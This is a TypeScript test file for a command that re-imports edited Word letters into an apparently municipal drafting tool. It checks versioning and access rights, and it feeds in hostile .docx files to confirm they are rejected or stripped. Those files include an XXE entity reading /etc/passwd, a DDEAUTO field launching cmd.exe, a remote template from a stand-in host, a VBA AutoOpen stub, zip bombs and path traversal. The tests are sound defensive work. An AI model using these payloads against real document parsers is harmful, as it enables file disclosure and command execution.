/** `brief terug` aan de opdrachtregel: een brief die in Word of LibreOffice is bewerkt komt terug, en een vijandig bestand verandert niets. */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { draai } from '../cli';
import { briefOpstellen } from '../app/brief-opstellen';
import { voerUit } from '../app/use-case';
import { openWorld } from '../db/world';
import type { OpenWorld } from '../db/world';
import { alineasVan } from '../domain/brief-eigen';
import type { BriefVersie } from '../domain/brievenboek';
import type { Weglating } from '../domain/brief-terug';
import { stilleKlok } from '../klok';
import { briefwerk } from '../reports/briefwerk';
import { zip } from '../reports/render/docx-zip';
import { inProces } from '../reports/teken';
import { maakTekenaar } from '../reports/tekenaar';
import gebruikers from '../simulator/users.json';
import { opdrachtzinnen } from '../texts/opdrachtregel';
import { hash } from './bot/handlers/support/beurt';
import { metGereedschap, voerUit as draaiProgramma } from './support/gereedschap';
import { kopieerProefwereld, PROEFMOMENT } from './support/proefhuis';
import { maakCompleet, reeksAdviseur } from './support/reeks';
import { leesZip } from './support/zip';

let map: string;
let url: string;
let wereld: OpenWorld;
let brief: BriefVersie;
let docx: Uint8Array;

beforeEach(async () => {
  map = mkdtempSync(join(tmpdir(), 'tredewijzer-terug-'));
  url = `sqlite:${join(map, 'huis.db')}`;
  await kopieerProefwereld(join(map, 'huis.db'));
  wereld = await openWorld(url);
  brief = await wereld.eenheid(async (eenheid) => {
    const casus = await maakCompleet(eenheid);
    const vraag = { casus, soort: 'raadsinformatiebrief', publiek: 'raad-andere-regio' };
    const uit = await voerUit(await reeksAdviseur(eenheid, 0), briefOpstellen(briefwerk, hash), vraag);
    const gemaakt = uit.ok ? await eenheid.brief.vind(uit.value.briefId) : null;
    if (gemaakt === null) throw new Error('geen brief');
    return gemaakt;
  });
  ({ docx } = await maakTekenaar(inProces).teken(brief, ['docx']));
});
afterEach(async () => {
  await wereld.sluit();
  rmSync(map, { recursive: true, force: true });
});

async function terug(bytes: Uint8Array, { wie = 'Esther Kuipers', nummer = brief.nummer, naam = 'bewerkt.docx' } = {}) {
  writeFileSync(join(map, naam), bytes);
  const persoon = gebruikers.find((een) => een.naam === wie);
  const [uit, fout] = [[] as string[], [] as string[]];
  const monden = { uit: (regel: string) => void uit.push(regel), fout: (regel: string) => void fout.push(regel) };
  const wieVlaggen = ['--aad', persoon?.aadObjectId ?? '', '--tenant', persoon?.tenantId ?? ''];
  const code = await draai(['brief', 'terug', join(map, naam), '--brief', nummer, ...wieVlaggen], {
    ...{ invoer: process.stdin, omgeving: { DATABASE_URL: url, GEGEVENS_MAP: map }, klok: stilleKlok(PROEFMOMENT) },
    ...monden,
  });
  return { code, fout, verslag: code === 0 ? (JSON.parse(uit.join('\n')) as Verslag) : null };
}

interface Verslag {
  readonly nummer: string;
  readonly versie: number;
  readonly ongewijzigd: boolean;
  readonly bijgehouden: number;
  readonly opmerkingen: number;
  readonly verborgen: number;
  readonly tabellen: number;
  readonly weggelaten: readonly Weglating[];
  readonly gewijzigd: readonly { readonly was: string; readonly nu: string }[];
}

const nieuwste = async (): Promise<BriefVersie | null> => wereld.eenheid((turn) => turn.brief.nieuwste(brief.nummer));
const met = (
  delen: Readonly<Record<string, (oud: string) => string>>,
  erbij: readonly (readonly [string, string])[] = [],
) =>
  zip(
    [...[...leesZip(docx)].map(([naam, oud]) => [naam, delen[naam]?.(oud) ?? oud] as const), ...erbij].map(
      ([naam, inhoud]) => ({ naam, inhoud }),
    ),
    [],
  );

/** A whole paragraph of the running text. */
const alinea = () => {
  const gevonden = alineasVan(brief.document).find(
    ({ sleutel, tekst }) => sleutel.startsWith('voorgeschiedenis') && tekst.length > 120,
  );
  if (gevonden === undefined) throw new Error('geen alinea');
  return gevonden.tekst;
};
const EIGEN = 'Dit schreef de griffie zelf, met “aanhalingstekens” & een ampersand.';
const herschrijf = (xml: string): string => {
  const doel = (xml.match(/<w:p>.*?<\/w:p>/gs) ?? []).find((een) =>
    een.replace(/<[^>]+>/g, '').includes(alinea().slice(0, 40)),
  );
  if (doel === undefined) throw new Error('de alinea staat niet in het bestand');
  const woorden = EIGEN.replaceAll('&', '&amp;');
  return xml.replace(doel, `<w:p><w:r><w:t xml:space="preserve">${woorden}</w:t></w:r></w:p>`);
};

it('een bewerkte alinea wordt een nieuwe versie, met het verschil en een ander controlegetal', async () => {
  const uit = await terug(met({ 'word/document.xml': herschrijf }));
  expect(uit).toMatchObject({ code: 0, fout: [], verslag: { nummer: brief.nummer, versie: 2, ongewijzigd: false } });
  expect(uit.verslag?.gewijzigd).toEqual([{ was: alinea(), nu: EIGEN }]);
  const nu = await nieuwste();
  expect(nu).toMatchObject({ versie: 2, status: 'concept', akkoord: null });
  expect(nu?.hash).not.toBe(brief.hash);
  expect(alineasVan(nu?.document ?? brief.document).map(({ tekst }) => tekst)).toContain(EIGEN);
});

it('niets veranderd, een andere brief, een onbekende persoon of iemand zonder recht: de versie blijft, met een zin', async () => {
  expect(await terug(docx)).toMatchObject({ code: 0, verslag: { ongewijzigd: true, versie: 1, gewijzigd: [] } });
  expect(await terug(docx, { nummer: 'B-2026-9999' })).toMatchObject({
    code: 1,
    fout: [opdrachtzinnen.andereBrief(brief.nummer)],
  });
  expect(await terug(docx, { wie: 'niemand' })).toMatchObject({ code: 1, fout: [opdrachtzinnen.geenPersoon] });
  const zonderRecht = await terug(met({ 'word/document.xml': herschrijf }), { wie: 'Sanne Verhoeven' });
  expect(zonderRecht).toMatchObject({ code: 1, fout: [opdrachtzinnen.geenBrief] });
  expect(await nieuwste()).toMatchObject({ versie: 1, hash: brief.hash });
});

metGereedschap(['soffice'], () => {
  /** As somebody saves it who has no Word. */
  function doorLibreOffice(bytes: Uint8Array): Uint8Array {
    const uit = join(map, 'uit');
    mkdirSync(uit, { recursive: true });
    writeFileSync(join(map, 'brief.docx'), bytes);
    const profiel = `-env:UserInstallation=file://${map}/profiel`;
    draaiProgramma('soffice', [
      profiel,
      '--headless',
      '--convert-to',
      'docx',
      '--outdir',
      uit,
      join(map, 'brief.docx'),
    ]);
    return readFileSync(join(uit, 'brief.docx'));
  }

  it('LibreOffice bewaart een brief zonder wijziging: het is dezelfde versie, met voetnoten en al', async () => {
    expect(brief.document.voetnoten.length).toBeGreaterThan(0);
    const bewaard = doorLibreOffice(docx);
    expect(Buffer.from(bewaard).equals(Buffer.from(docx))).toBe(false);
    expect(await terug(bewaard)).toMatchObject({
      code: 0,
      verslag: {
        gewijzigd: [],
        ongewijzigd: true,
        versie: 1,
        bijgehouden: 0,
        opmerkingen: 0,
        verborgen: 0,
        tabellen: 0,
        kaders: 0,
        weggelaten: [],
        vast: [],
      },
    });
  });

  it('en met een bewerkte alinea komt precies die terug', async () => {
    const uit = await terug(doorLibreOffice(met({ 'word/document.xml': herschrijf })));
    expect(uit.verslag?.gewijzigd).toEqual([{ was: alinea(), nu: EIGEN }]);
    expect(await nieuwste()).toMatchObject({ versie: 2, status: 'concept' });
  });
});

describe('een vijandig bestand', () => {
  const doctype = (xml: string): string =>
    xml.replace('<w:document', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><w:document');
  it.each([
    [
      'een zipbom in de tekst',
      () => met({ 'word/document.xml': (xml) => xml.replace('</w:body>', `${' '.repeat(17_000_000)}</w:body>`) }),
    ],
    ['een zipbom in de eigenschappen', () => met({ 'docProps/custom.xml': (xml) => xml + ' '.repeat(17_000_000) })],
    [
      'een externe entiteit',
      () => met({ 'word/document.xml': (xml) => doctype(xml).replace('<w:t', '<w:t>&e;</w:t><w:t') }),
    ],
    [
      'een entiteit in de voetnoten',
      () => met({ 'word/footnotes.xml': (xml) => `<!DOCTYPE x [<!ENTITY a "b">]>${xml}` }),
    ],
    ['twee keer dezelfde tekst in de zip', () => met({}, [['word/document.xml', '<w:document/>']])],
    ['een tekst zonder alinea’s', () => met({ 'word/document.xml': (xml) => xml.replaceAll('w:p>', 'x:p>') })],
    ['geen Word-bestand', () => Buffer.from('%PDF-1.7 geen zip')],
    ['een half bestand', () => docx.slice(0, Math.floor(docx.length / 2))],
  ])('%s wordt niet gelezen: één zin, en niets verandert', async (_, maak) => {
    expect(await terug(maak())).toMatchObject({ code: 1, fout: [opdrachtzinnen.geenWord], verslag: null });
    expect(await nieuwste()).toMatchObject({ versie: 1, hash: brief.hash });
  });

  it('een te lang bestand: de zin zegt wat er is, en niets verandert', async () => {
    const erbij = '<w:p><w:r><w:t>Nog een.</w:t></w:r></w:p>'.repeat(10_000);
    const lang = met({ 'word/document.xml': (xml) => xml.replace('<w:sectPr', `${erbij}<w:sectPr`) });
    expect(await terug(lang)).toMatchObject({ code: 1, fout: [opdrachtzinnen.teLangeWord], verslag: null });
    expect(await nieuwste()).toMatchObject({ versie: 1, hash: brief.hash });
  });

  it('macro’s, paden naar buiten, sjablonen van elders en velden die iets uitvoeren komen niet mee', async () => {
    const veld = '<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r></w:p>';
    const bestand = met(
      {
        'word/document.xml': (xml) => herschrijf(xml).replace('<w:body>', `<w:body>${veld}`),
        'word/_rels/document.xml.rels': (xml) =>
          xml.replace(
            '</Relationships>',
            '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://kwaad.example/x.dotm" TargetMode="External"/></Relationships>',
          ),
      },
      [
        ['word/vbaProject.bin', 'Sub AutoOpen()'],
        ['../../buiten.txt', 'KANARIE-BUITEN'],
        ['word/media/kanarie.bin', 'KANARIE-BIJLAGE'],
      ],
    );
    expect(await terug(bestand, { naam: 'bewerkt.docm' })).toMatchObject({ code: 0, verslag: { versie: 2 } });
    const nu = await nieuwste();
    if (nu === null) throw new Error('geen brief');
    expect(JSON.stringify(nu)).not.toMatch(/KANARIE|AutoOpen|DDEAUTO|kwaad/);
    const opnieuw = leesZip((await maakTekenaar(inProces).teken(nu, ['docx'])).docx);
    expect([...opnieuw.keys()].filter((naam) => /vba|media|\.\./.test(naam))).toEqual([]);
    expect([...opnieuw.values()].join('')).not.toMatch(/KANARIE|AutoOpen|DDEAUTO|kwaad/);
    expect(readFileSync(join(map, 'huis.db')).includes('KANARIE')).toBe(false);
  });
});
